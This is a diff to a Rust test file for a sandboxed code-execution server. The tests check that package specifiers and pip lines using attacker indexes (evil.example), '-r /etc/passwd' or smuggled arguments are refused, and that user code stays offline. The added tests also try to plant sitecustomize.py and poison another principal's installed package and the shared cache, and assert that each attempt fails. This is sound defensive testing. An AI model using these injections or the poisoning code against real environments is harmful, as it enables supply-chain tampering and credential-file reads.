@@ -76,6 +76,17 @@ async fn specifiers_that_are_not_plain_requirements_are_refused() {
         "six\n--index-url https://evil.example/simple",
         "six --no-deps",
         "https://evil.example/six.whl",
+        "-i https://evil.example/simple",
+        "--extra-index-url=https://evil.example/simple",
+        "--target=/",
+        "-r /etc/passwd",
+        "-c/etc/passwd",
+        "six; --index-url=https://evil.example/simple",
+        "six==1.0 --hash=sha256:00",
+        "~/six",
+        "../six",
+        "file:six",
+        "six @ ./six.whl",
     ] {
         let o = s.call("run-code", run("print('ran')", &[bad])).await;
         assert_eq!(o.error_kind(), "invalid_argument", "{bad:?}: {}", o.text);
@@ -115,6 +126,10 @@ async fn specifiers_that_are_not_plain_requirements_are_refused() {
         "!pip install -e /\nprint('ran')",
         "%pip install 'six @ file:///etc'\nprint('ran')",
         "%pip install\nprint('ran')",
+        "%pip install -r /etc/passwd\nprint('ran')",
+        "%pip install --target /tmp six\nprint('ran')",
+        "!pip install --extra-index-url https://evil.example/simple six\nprint('ran')",
+        "!python -m pip install ./six\nprint('ran')",
     ] {
         let o = s.eval(&id, line).await;
         assert_eq!(o.error_kind(), "invalid_argument", "{line:?}: {}", o.text);
@@ -312,5 +327,310 @@ async fn no_packages_turns_them_off() {
     let id = s.start_session("python").await;
     let o = s.eval(&id, "%pip install six").await;
     assert!(o.text.contains("--no-packages"), "{}", o.text);
+    s.stop().await;
+}
+
+// --- every level, as root and not -------------------------------------------------------
+
+/// Unprivileged servers (when the tests run as root) each get a uid of their own.
+static NEXT_UID: std::sync::atomic::AtomicU32 = std::sync::atomic::AtomicU32::new(61_000);
+
+/// The real uv (not a version manager's shim), for a server that cannot reach the
+/// operator's own (`--uv`).
+fn real_uv() -> Option<PathBuf> {
+    let out = std::process::Command::new("python3")
+        .args(["-c", "import uv; print(uv.find_uv_bin())"])
+        .output()
+        .ok()?;
+    let p = PathBuf::from(String::from_utf8_lossy(&out.stdout).trim());
+    (out.status.success() && p.is_file()).then_some(p)
+}
+
+/// A copy of uv in a directory every user can enter, removed when dropped: what an
+/// operator does for a server that runs as a user who cannot reach root's uv.
+struct UvCopy(PathBuf);
+
+impl UvCopy {
+    fn new(tag: &str) -> Option<Self> {
+        use std::os::unix::fs::PermissionsExt;
+        let uv = real_uv()?;
+        let dir = std::env::temp_dir().join(format!("replbox-uv-{tag}-{}", std::process::id()));
+        let _ = std::fs::remove_dir_all(&dir);
+        std::fs::create_dir_all(&dir).ok()?;
+        std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755)).ok()?;
+        std::fs::copy(&uv, dir.join("uv")).ok()?;
+        Some(Self(dir))
+    }
+    fn uv(&self) -> String {
+        self.0.join("uv").display().to_string()
+    }
+}
+
+impl Drop for UvCopy {
+    fn drop(&mut self) {
+        let _ = std::fs::remove_dir_all(&self.0);
+    }
+}
+
+/// Start a server at `level`, as root (`root`) or as a uid of its own, with its own cache
+/// (and, not root, a uv it can run); None (skipped) where that cannot run here.
+async fn at_level(
+    level: &str,
+    root: bool,
+    cache: &Cache,
+    uv: Option<&UvCopy>,
+) -> Option<TestServer> {
+    let mut args = vec!["--sandbox", level, "--package-cache", cache.s()];
+    let path;
+    if let Some(u) = uv {
+        path = u.uv();
+        args.extend(["--uv", path.as_str()]);
+    }
+    let uid = (!root).then(|| NEXT_UID.fetch_add(1, std::sync::atomic::Ordering::Relaxed));
+    match TestServer::try_start(&args, &[], uid).await {
+        Ok(s) => {
+            assert!(
+                s.instructions().contains(&format!("Sandbox: {level} (")),
+                "{level}: {}",
+                s.instructions()
+            );
+            Some(s)
+        }
+        Err(e) => {
+            common::skip(format!("packages at {level} (root: {root}): {e}"));
+            None
+        }
+    }
+}
+
+/// What user code beside packages can do, printed one word a probe: it reaches the index
+/// (`REACHED`/`blocked`), sees a proxy variable (`PROXY`), writes the cache (`WROTE`/`refused`),
+/// writes its own packages.
+fn probe_code(cache: &str) -> String {
+    format!(
+        r#"
+import os, six, urllib.request
+try:
+    urllib.request.urlopen("https://pypi.org/simple/six/", timeout=10)
+    print("REACHED")
+except Exception as e:
+    print("blocked", type(e).__name__)
+print("PROXY" if any(k.lower().endswith("_proxy") for k in os.environ) else "noproxy")
+for p in [{cache:?} + "/uv/x", {cache:?} + "/layers/x", {cache:?} + "/installer/uv", six.__file__]:
+    try:
+        open(p, "a").write("x")
+        print("WROTE", p)
+    except OSError as e:
+        print("refused", type(e).__name__)
+print("layer", os.path.dirname(six.__file__))
+"#
+    )
+}
+
+/// The host's cache holds nothing user code wrote (`x` files, an appended `x`).
+fn untouched(cache: &Cache, at: &str, said: &str) {
+    for p in ["uv/x", "layers/x"] {
+        assert!(!cache.0.join(p).exists(), "{at}: {p} written: {said}");
+    }
+    if let Ok(uv) = std::fs::read(cache.0.join("installer/uv")) {
+        assert!(
+            uv.last() != Some(&b'x'),
+            "{at}: the installer altered: {said}"
+        );
+    }
+}
+
+/// `packages` in run-code and session_start, `%pip install` then import, at `level` as
+/// root and not; user code stays offline and writes neither the cache, the installer,
+/// its own packages nor another session's.
+async fn packages_at(level: &'static str) {
+    if !require("python", "python3") || !require("uv", "uv") {
+        return;
+    }
+    let we_are_root = nix::unistd::geteuid().is_root();
+    let uv = if we_are_root {
+        UvCopy::new(level)
+    } else {
+        None
+    };
+    let mut setups = vec![we_are_root];
+    if we_are_root {
+        setups.push(false);
+    }
+    for root in setups {
+        let cache = Cache::new(&format!("{level}-{root}"));
+        let copy = (!root && we_are_root).then_some(uv.as_ref()).flatten();
+        let Some(s) = at_level(level, root, &cache, copy).await else {
+            continue;
+        };
+        let at = format!("{level} (root: {root})");
+        let o = s
+            .call("run-code", run(&probe_code(cache.s()), &["six"]))
+            .await;
+        assert!(!o.is_error, "{at}: {}", o.text);
+        assert!(
+            installed(&o.structured)
+                .iter()
+                .any(|p| p.starts_with("six==")),
+            "{at}: {}",
+            o.structured
+        );
+        assert!(o.text.contains("blocked"), "{at}: {}", o.text);
+        assert!(o.text.contains("noproxy"), "{at}: {}", o.text);
+        // What it could write is at most a private view of its own: the host's files are
+        // unchanged.
+        untouched(&cache, &at, &o.text);
+        // A session with packages, then %pip, then the import.
+        let o = s
+            .call(
+                "session_start",
+                json!({"language": "python", "packages": ["six"]}),
+            )
+            .await;
+        assert!(!o.is_error, "{at}: {}", o.text);
+        let a = o.s("session_id").to_string();
+        let o = s.eval(&a, "%pip install iniconfig").await;
+        assert!(!o.is_error, "{at}: {}", o.text);
+        assert!(o.text.contains("iniconfig=="), "{at}: {}", o.text);
+        let o = s
+            .eval(
+                &a,
+                "import iniconfig, six, os\nprint('layer', os.path.dirname(six.__file__))",
+            )
+            .await;
+        let layer = output(&o)
+            .lines()
+            .find_map(|l| l.strip_prefix("layer "))
+            .unwrap_or_else(|| panic!("{at}: {}", o.text))
+            .to_string();
+        // Another session (installing the same package) can alter neither its own packages
+        // nor the first one's, nor the cache; and it is offline too.
+        let b = s.start_session("python").await;
+        let o = s.eval(&b, "%pip install six").await;
+        assert!(!o.is_error, "{at}: {}", o.text);
+        let o = s
+            .eval(
+                &b,
+                &format!(
+                    "{}\nfor p in [{layer:?} + '/six.py', {layer:?} + '/planted.py']:\n    \
+                     try:\n        open(p, 'a').write('x')\n        print('WROTE', p)\n    \
+                     except OSError as e:\n        print('refused', type(e).__name__)",
+                    probe_code(cache.s())
+                ),
+            )
+            .await;
+        assert!(o.text.contains("blocked"), "{at}: {}", o.text);
+        untouched(&cache, &at, &o.text);
+        let six = std::fs::read_to_string(format!("{layer}/six.py")).expect("six.py");
+        assert!(!six.ends_with('x'), "{at}: six.py altered: {}", o.text);
+        assert!(
+            !std::path::Path::new(&format!("{layer}/planted.py")).exists(),
+            "{at}: {}",
+            o.text
+        );
+        let o = s.eval(&a, "print(six.PY3, iniconfig.__name__)").await;
+        assert_eq!(output(&o).trim(), "True iniconfig", "{at}: {}", o.text);
+        s.stop().await;
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn packages_at_bwrap_as_root_and_not() {
+    packages_at("bwrap").await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn packages_at_landlock_as_root_and_not() {
+    packages_at("landlock").await;
+}
+
+/// Two principals ask for the same package: the second gets it from the cache, and the
+/// first one's code could not change what the second gets, nor the other way round.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn one_principal_cannot_alter_what_another_installs() {
+    if !require("python", "python3") || !require("uv", "uv") {
+        return;
+    }
+    let cache = Cache::new("principals");
+    let s = common::Server::http()
+        .token("pkg-principal-a-token-0123456789")
+        .token("pkg-principal-b-token-0123456789")
+        .args(["--package-cache", cache.s()])
+        .start()
+        .await;
+    let a = s.connect("pkg-principal-a-token-0123456789").await;
+    let b = s.connect("pkg-principal-b-token-0123456789").await;
+    // A's session holds six in its layer.
+    let o = common::http_call(
+        &a,
+        "session_start",
+        json!({"language": "python", "packages": ["six"]}),
+    )
+    .await;
+    assert!(!o.is_error, "{}", o.text);
+    let id = o.s("session_id").to_string();
+    let o = common::http_call(
+        &a,
+        "session_eval",
+        json!({"session_id": id, "code": "import os, six; print(os.path.dirname(six.__file__))"}),
+    )
+    .await;
+    let layer = o.structured["output"]
+        .as_str()
+        .unwrap_or("")
+        .trim()
+        .to_string();
+    assert!(layer.starts_with('/'), "{}", o.text);
+    // B's code tries to plant a module in A's layer, alter A's six and the cache's copy.
+    let attack = format!(
+        r#"
+import glob, os
+targets = [{layer:?} + "/six.py", {layer:?} + "/sitecustomize.py"]
+targets += glob.glob({cache:?} + "/uv/**/six.py", recursive=True)
+for p in targets + [{cache:?} + "/uv/planted"]:
+    try:
+        open(p, "a").write("\nimport os; os.environ['POISONED'] = '1'\n")
+        print("WROTE", p)
+    except OSError as e:
+        print("refused", type(e).__name__)
+"#,
+        cache = cache.s()
+    );
+    let o = common::http_call(
+        &b,
+        "run-code",
+        json!({"languageId": "python", "code": attack, "packages": ["six"]}),
+    )
+    .await;
+    assert!(!o.is_error, "{}", o.text);
+    let six = std::fs::read_to_string(format!("{layer}/six.py")).expect("A's six.py");
+    assert!(!six.contains("POISONED"), "A's six altered: {}", o.text);
+    assert!(
+        !std::path::Path::new(&format!("{layer}/sitecustomize.py")).exists(),
+        "{}",
+        o.text
+    );
+    assert!(!cache.0.join("uv/planted").exists(), "{}", o.text);
+    // What each gets next is the index's six, from the cache, unaltered.
+    let check = "import os, six\nprint('poisoned' if 'POISONED' in os.environ or \
+                 'POISONED' in open(six.__file__).read() else 'clean', six.__version__)";
+    for (who, c) in [("a", &a), ("b", &b)] {
+        let o = common::http_call(
+            c,
+            "run-code",
+            json!({"languageId": "python", "code": check, "packages": ["six"]}),
+        )
+        .await;
+        assert!(o.text.starts_with("clean 1."), "{who}: {}", o.text);
+        assert_eq!(
+            o.structured["packages"]["downloaded"],
+            json!(0),
+            "{who}: {}",
+            o.structured
+        );
+    }
+    let o = common::http_call(&a, "session_eval", json!({"session_id": id, "code": check})).await;
+    assert!(o.text.starts_with("clean 1."), "{}", o.text);
+    drop((a, b));
     s.stop().await;
 }
